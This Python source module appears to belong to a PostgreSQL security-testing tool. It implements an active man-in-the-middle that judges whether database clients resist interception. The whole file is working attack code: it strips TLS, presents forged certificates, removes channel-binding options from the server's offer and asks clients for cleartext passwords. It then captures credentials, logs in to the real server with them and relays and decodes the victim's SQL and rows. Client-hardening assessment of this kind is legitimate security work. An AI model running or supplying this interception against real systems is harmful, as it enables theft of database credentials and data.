"""``pgbatten mitm``: an active man in the middle between a client and its server, for a test environment.

Each connection is attacked one way (:class:`Attack`) and judged by what the client then did on the wire:
whether it went on through the attack and sent its startup (user, database) and its credentials, what the
man in the middle captured, and whether he could still log in to the real server with them and relay the
session (SCRAM without channel binding relays; with channel binding the server sees the forged
certificate's hash and refuses; a client certificate cannot be presented by someone who lacks its key).

After the attack the man in the middle is a relay that decodes both legs in plaintext: the SQL the client
sends and the rows it gets back are his. Nothing captured is written to disk.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import tempfile
import threading
from collections.abc import Callable
from pathlib import Path

from cryptography import x509

from pgbatten.attack import auth
from pgbatten.attack.decode import BackendStream, FrontendStream
from pgbatten.attack.events import Direction, WireEvent
from pgbatten.attack.forge import Attack, Forgery, forge
from pgbatten.attack.mitm_connection import (
    MAX_KEPT_EVENTS,
    MitmConnection,
    MitmOptions,
    MitmSink,
    QuietSink,
)
from pgbatten.attack.relay import TcpService, close_quietly, pump, wait_until_stopped
from pgbatten.certfacts import host_names
from pgbatten.errors import ProbeError
from pgbatten.probe import transport
from pgbatten.probe.transport import Deadline
from pgbatten.probe.versions import ALPN_POSTGRESQL, TlsVersion
from pgbatten.probe.wire import (
    CANCEL_REQUEST_CODE,
    GSSENC_REQUEST_CODE,
    SSL_REQUEST_CODE,
    SslAnswer,
    Target,
    is_ip_literal,
)


def fetch_certificate(upstream: Target, timeout: float) -> x509.Certificate | None:
    """The certificate the real server presents (what an attacker copies the names from), or None."""
    try:
        sock, _ = transport.open_channel(upstream.host, upstream.port, Deadline(timeout))
    except ProbeError:
        return None
    try:
        hostname = None if is_ip_literal(upstream.host) else upstream.host
        with _client_context().wrap_socket(sock, server_hostname=hostname) as tls:
            der = tls.getpeercert(binary_form=True)
    except (OSError, ssl.SSLError):
        return None
    finally:
        close_quietly(sock)
    return x509.load_der_x509_certificate(der) if der else None


def display_tls(sock: ssl.SSLSocket) -> str:
    """``TLS 1.3, TLS_AES_256_GCM_SHA384``: a TLS session in the vocabulary the decoder uses."""
    label = sock.version() or ""
    version = TlsVersion.from_label(label)
    cipher = sock.cipher()
    return (version.display if version else label) + (f", {cipher[0]}" if cipher else "")


def _client_context() -> ssl.SSLContext:
    # The attacker checks nothing on his way to the real server.
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def _describe_tls_failure(exc: BaseException) -> str:
    reason = getattr(exc, "reason", None) or ""
    if isinstance(reason, str) and "ALERT_" in reason:
        alert = reason.split("ALERT_", 1)[1].lower()
        return f"the client aborted the handshake with alert {alert}"
    if isinstance(exc, ssl.SSLEOFError | ConnectionResetError | BrokenPipeError | TimeoutError):
        return "the client closed the connection during the handshake"
    return f"the handshake failed: {reason or exc}"


class Mitm(TcpService):
    """The man in the middle: one attack, any number of connections."""

    thread_prefix = "mitm"

    def __init__(self, options: MitmOptions, sink: MitmSink | None = None) -> None:
        super().__init__(
            listen_host=options.listen.host, listen_port=options.listen.port, max_connections=None
        )
        self.options = options
        self.sink: MitmSink = sink or QuietSink()
        self.connections: list[MitmConnection] = []
        self._sink_lock = threading.Lock()
        self._contexts: dict[str, ssl.SSLContext] = {}
        self.names = options.names or self._upstream_names()
        self.forgery = forge(options.attack, self.names, ca=options.ca)
        self._context = self._server_context(self.forgery) if self.forgery is not None else None

    # -- set-up -----------------------------------------------------------------------------------------

    def _upstream_names(self) -> tuple[str, ...]:
        cert = fetch_certificate(self.options.upstream, self.options.timeout)
        names = list(host_names(cert)) if cert is not None else []
        if self.options.upstream.host not in names:
            names.append(self.options.upstream.host)
        return tuple(names)

    def _server_context(self, forgery: Forgery) -> ssl.SSLContext:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        # ssl loads certificates from files only: a private temp dir that is gone as soon as they are read.
        with tempfile.TemporaryDirectory(prefix="pgbatten-mitm-") as tmp:
            cert, key = Path(tmp) / "cert.pem", Path(tmp) / "key.pem"
            cert.write_bytes(forgery.cert_pem())
            key.touch(mode=0o600)
            key.write_bytes(forgery.key_pem())
            ctx.load_cert_chain(cert, key)
        ctx.set_alpn_protocols([ALPN_POSTGRESQL])
        if forgery.follows_names:
            ctx.sni_callback = self._by_server_name
        return ctx

    def _by_server_name(self, sock: ssl.SSLObject, name: str | None, _ctx: ssl.SSLContext) -> None:
        # A client that asks for a name the forgery lacks gets one made for that name on the spot.
        if not name or name in self.names:
            return
        with self._sink_lock:
            ctx = self._contexts.get(name)
            if ctx is None:
                forgery = forge(self.options.attack, (name, *self.names), ca=self.options.ca)
                assert forgery is not None
                ctx = self._contexts[name] = self._server_context(forgery)
        sock.context = ctx

    # -- reporting ------------------------------------------------------------------------------------

    def _step(self, conn: MitmConnection, text: str) -> None:
        with self._sink_lock:
            self.sink.step(conn, text)

    def _events(self, conn: MitmConnection, events: list[WireEvent]) -> None:
        for event in events:
            if len(conn.events) < MAX_KEPT_EVENTS:
                conn.events.append(event)
            self._observe(conn, event)
            with self._sink_lock:
                self.sink.event(conn, event)

    @staticmethod
    def _observe(conn: MitmConnection, event: WireEvent) -> None:
        kind = event.kind
        if kind == "PasswordMessage":
            conn.credentials.append(
                f"md5 hash {event.get('hash')}" if event.get("method") == "md5" else "cleartext password"
            )
        elif kind == "SASLInitialResponse":
            conn.credentials.append(f"{event.get('mechanism')} exchange")
        elif kind == "SASLResponse" and "p=" in (event.get("data") or ""):
            conn.credentials.append("SCRAM client proof (offline guessing)")
        elif kind in ("Query", "Parse") and event.get("query"):
            conn.queries.append(event.get("query") or "")
        elif kind == "DataRow":
            conn.rows += 1
        elif kind == "AuthenticationOk" and conn.upstream_login is None:
            conn.upstream_login = "ok"
        elif kind == "ErrorResponse" and conn.upstream_login is None:
            conn.upstream_login = f"failed: {event.summary}"
        elif kind == "ReadyForQuery" and conn.upstream_login == "ok":
            conn.ready = True

    # -- one connection ------------------------------------------------------------------------------

    def handle(self, conn_id: int, client: socket.socket, peer: tuple[str, int]) -> None:
        conn = MitmConnection(conn_id, peer, self.options.attack)
        with self._sink_lock:
            self.connections.append(conn)
            self.sink.opened(conn)
        client.settimeout(self.options.timeout)
        try:
            self._attack(conn, client)
        except auth.PeerClosed as exc:
            if self.stopping:
                conn.error = conn.error or "the man in the middle stopped before the client was done"
            elif conn.refusal is None and conn.upstream_login is None:
                conn.refusal = f"the client closed the connection {self._stage(conn)} ({exc})"
        except ProbeError as exc:
            conn.error = exc.reason or str(exc)
        except (OSError, ssl.SSLError) as exc:
            conn.error = f"{type(exc).__name__}: {exc}"
        finally:
            with self._sink_lock:
                self.sink.closed(conn)

    @staticmethod
    def _stage(conn: MitmConnection) -> str:
        if conn.startup:
            return "instead of sending its password"
        if conn.client_tls:
            return "after the TLS handshake, without sending its startup"
        if conn.asked == "SSLRequest":
            return "instead of going on without TLS"
        return "before sending anything"

    def _attack(self, conn: MitmConnection, client: socket.socket) -> None:
        opened: list[socket.socket] = []
        try:
            self._attack_steps(conn, client, opened)
        finally:
            for sock in opened:
                self.untrack(sock)
                close_quietly(sock)

    def _attack_steps(self, conn: MitmConnection, client: socket.socket, opened: list[socket.socket]) -> None:
        attack = self.options.attack
        stream: socket.socket = client
        front = FrontendStream()
        while True:
            if stream is client:
                first = client.recv(1, socket.MSG_PEEK)
                if not first:
                    raise auth.PeerClosed("closed")
                if first[0] == 0x16:  # a TLS handshake record: direct TLS
                    conn.asked = "direct TLS"
                    if attack == Attack.STRIP:
                        conn.refusal = "the client started TLS directly: there is no SSLRequest to strip"
                        return
                    tls = self._accept_tls(conn, client, opened)
                    if tls is None:
                        return
                    stream = tls
                    continue
            packet = auth.read_packet(stream, Deadline(self.options.timeout))
            code = struct.unpack("!i", packet[4:8])[0]
            if code in (SSL_REQUEST_CODE, GSSENC_REQUEST_CODE):
                self._events(conn, front.feed(packet))
                if code == GSSENC_REQUEST_CODE or attack == Attack.STRIP:
                    stream.sendall(b"N")
                    if code == SSL_REQUEST_CODE:
                        conn.asked = "SSLRequest"
                        conn.stripped = True
                        self._step(conn, "client asked for TLS; answered 'N'")
                    continue
                conn.asked = "SSLRequest"
                stream.sendall(b"S")
                tls = self._accept_tls(conn, client, opened)
                if tls is None:
                    return
                stream = tls
                front = FrontendStream()  # the encrypted leg starts afresh: what follows is the startup
                continue
            if code == CANCEL_REQUEST_CODE:
                conn.asked = "CancelRequest"
                self._events(conn, front.feed(packet))
                self._relay_cancel(conn, packet)
                return
            if conn.asked == "nothing":
                conn.asked = "plaintext"
            break
        self._events(conn, front.feed(packet))
        conn.startup = auth.startup_params(packet)
        if not conn.startup:
            conn.error = "the client sent a startup packet of an unknown protocol"
            return
        self._step(conn, f"client sent its startup: user {conn.startup.get('user')!r}")
        back = BackendStream(0)
        if attack == Attack.DOWNGRADE_AUTH:
            upstream = self._downgrade(conn, stream, packet, front, back)
        else:
            upstream = self._connect_upstream(conn)
            upstream.sendall(packet)
            if not self._relay_login(conn, stream, upstream, front, back):
                close_quietly(upstream)
                return
        if upstream is None:
            return
        try:

            def seen(direction: Direction, chunk: bytes) -> None:
                decoder = front if direction == Direction.FRONTEND else back
                self._events(conn, decoder.feed(chunk))

            pump(stream, upstream, seen, stop=self._stop, idle_timeout=None, half_close=False)
        finally:
            close_quietly(upstream)
        if conn.upstream_login is None and conn.refusal is None:
            conn.refusal = f"the client closed the connection {self._stage(conn)}"

    def _relay_login(
        self,
        conn: MitmConnection,
        stream: socket.socket,
        upstream: socket.socket,
        front: FrontendStream,
        back: BackendStream,
    ) -> bool:
        """Pass the login on message by message; True once the server said AuthenticationOk.

        A client on a plaintext leg (stripped, or never asked for TLS) is not offered channel binding:
        libpq refuses SCRAM-SHA-256-PLUS without TLS, and the server, itself on TLS with the man in the
        middle, accepts a client that says it does not support binding.
        """
        while True:
            mtype, body = auth.read_message(upstream, Deadline(self.options.timeout))
            code = struct.unpack("!i", body[:4])[0] if mtype == "R" and len(body) >= 4 else None
            if code == 10 and not isinstance(stream, ssl.SSLSocket):
                offered = [m for m in body[4:].split(b"\0") if m]
                kept = [m for m in offered if not m.endswith(b"-PLUS")]
                if kept and kept != offered:
                    body = body[:4] + b"".join(m + b"\0" for m in kept) + b"\0"
                    self._step(
                        conn,
                        "removed SCRAM-SHA-256-PLUS from the server's offer (no TLS on the client's leg)",
                    )
            raw = auth.message(mtype, body)
            self._events(conn, back.feed(raw))
            stream.sendall(raw)
            if mtype == "E":
                return False
            if mtype != "R" or code == 0:
                return mtype == "R"
            if code == 12:
                continue  # SASLFinal: AuthenticationOk follows
            try:
                cmtype, cbody = auth.read_message(stream, Deadline(self.options.timeout))
            except auth.PeerClosed as exc:
                conn.refusal = (
                    f"the client closed the connection instead of answering {self._asked_for(code)} ({exc})"
                )
                return False
            raw = auth.message(cmtype, cbody)
            self._events(conn, front.feed(raw))
            upstream.sendall(raw)

    @staticmethod
    def _asked_for(code: int | None) -> str:
        return {
            3: "the cleartext password request",
            5: "the md5 password request",
            10: "the SASL request",
            11: "the SCRAM challenge",
        }.get(code or -1, f"authentication request {code}")

    def _accept_tls(
        self, conn: MitmConnection, client: socket.socket, opened: list[socket.socket]
    ) -> ssl.SSLSocket | None:
        assert self._context is not None
        stopped = "the man in the middle stopped during the handshake"
        try:
            tls = self._context.wrap_socket(client, server_side=True, do_handshake_on_connect=False)
        except (ssl.SSLError, OSError) as exc:
            conn.error = stopped if self.stopping else f"cannot start TLS: {exc}"
            return None
        self.track(client, tls)
        opened.append(tls)
        if self.stopping:
            # close() began while the socket changed hands: it may have been shut down before ssl wrapped
            # it (then it has no TLS object to shake hands with), or by track() just now.
            conn.error = stopped
            return None
        try:
            tls.do_handshake()
        except (ssl.SSLError, OSError) as exc:
            if self.stopping:
                conn.error = stopped
                return None
            conn.refusal = _describe_tls_failure(exc)
            self._step(conn, f"client refused the forged certificate: {conn.refusal}")
            return None
        conn.client_tls = display_tls(tls)
        self._step(conn, f"client accepted the forged certificate ({conn.client_tls})")
        return tls

    def _connect_upstream(self, conn: MitmConnection) -> socket.socket:
        """The man in the middle's own connection to the server: TLS whenever it is offered."""
        upstream = self.options.upstream
        deadline = Deadline(self.options.timeout)
        sock = transport.connect(upstream.host, upstream.port, deadline)
        try:
            response = transport.request_tls(sock, deadline)
            if response.answer == SslAnswer.ACCEPTED:
                hostname = None if is_ip_literal(upstream.host) else upstream.host
                tls = _client_context().wrap_socket(sock, server_hostname=hostname)
                conn.upstream_tls = display_tls(tls)
                return tls
            if response.answer != SslAnswer.REFUSED:
                raise ProbeError(upstream.host, upstream.port, response.detail)
            return sock
        except (OSError, TimeoutError) as exc:
            close_quietly(sock)
            raise ProbeError(upstream.host, upstream.port, transport.describe_os_error(exc)) from exc
        except BaseException:
            close_quietly(sock)
            raise

    def _downgrade(
        self,
        conn: MitmConnection,
        stream: socket.socket,
        startup: bytes,
        front: FrontendStream,
        back: BackendStream,
    ) -> socket.socket | None:
        request = auth.CLEARTEXT_REQUEST
        self._events(conn, back.feed(request))
        stream.sendall(request)
        self._step(conn, "asked the client for its password in cleartext")
        try:
            mtype, body = auth.read_message(stream, Deadline(self.options.timeout))
        except auth.PeerClosed as exc:
            conn.refusal = f"the client refused to send its password in cleartext ({exc})"
            return None
        self._events(conn, front.feed(auth.message(mtype, body)))
        if mtype != "p":
            conn.refusal = f"the client answered the password request with message {mtype!r}"
            return None
        conn.password = body.rstrip(b"\0").decode("utf-8", errors="replace")
        upstream = self._connect_upstream(conn)
        try:
            auth.login(
                upstream, startup, conn.startup.get("user", ""), conn.password, timeout=self.options.timeout
            )
        except (ProbeError, auth.PeerClosed) as exc:
            reason = exc.reason if isinstance(exc, ProbeError) else str(exc)
            conn.upstream_login = f"failed: {reason}"
            failure = auth.error_response(reason, "28P01")
            self._events(conn, back.feed(failure))
            with contextlib.suppress(OSError):
                stream.sendall(failure)
            close_quietly(upstream)
            return None
        conn.upstream_login = "ok"
        self._step(conn, "logged in to the server with the client's password")
        ok = auth.auth_request(0)
        self._events(conn, back.feed(ok))
        stream.sendall(ok)
        return upstream

    def _relay_cancel(self, conn: MitmConnection, packet: bytes) -> None:
        (pid,) = struct.unpack("!i", packet[8:12])
        conn.cancel = {"pid": str(pid), "key": packet[12:].hex()}
        upstream = self.options.upstream
        try:
            with transport.connect(upstream.host, upstream.port, Deadline(self.options.timeout)) as sock:
                sock.sendall(packet)
        except (ProbeError, OSError) as exc:
            conn.error = f"could not pass the CancelRequest on: {exc}"
        else:
            self._step(conn, f"passed a CancelRequest for backend {pid} on")


def run_mitm(
    options: MitmOptions,
    sink: MitmSink,
    *,
    stop: threading.Event | None = None,
    on_listening: Callable[[Mitm], None] | None = None,
) -> list[MitmConnection]:
    """Attack every connection until ``stop``, ``duration`` or Ctrl-C; every connection, in accept order."""
    stop = stop or threading.Event()
    mitm = Mitm(options, sink)
    with mitm:
        if on_listening is not None:
            on_listening(mitm)
        wait_until_stopped(stop, duration=options.duration)
    return list(mitm.connections)
